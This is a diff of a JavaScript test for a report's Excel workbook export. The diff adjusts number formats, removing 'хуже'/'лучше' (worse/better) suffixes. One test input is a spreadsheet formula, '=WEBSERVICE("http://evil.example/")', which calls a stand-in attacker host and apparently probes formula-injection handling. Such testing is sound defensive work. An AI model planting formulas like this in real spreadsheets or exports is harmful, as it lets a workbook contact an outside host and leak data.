@@ -186,9 +186,10 @@ describe('the workbook of the report', () => {
     expect(formatOf('Частота', 'Место', 5)).toBe('#,##0')
     expect(row('Частота', 'Изменение').getCell(6)).toMatchObject({
       value: -20,
-      numFmt: '+#,##0.00" хуже";−#,##0.00" хуже";#,##0.00',
+      numFmt: '+#,##0.00;−#,##0.00;#,##0.00',
     })
-    expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 6)).toContain('лучше')
+    // What chance may have made is neither good nor bad.
+    expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 6)).not.toContain('лучше')
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 4, ySplit: 1 })
     expect(sheet.autoFilter).toBe('A1:I1')
     expect(sheet.pageSetup).toMatchObject({
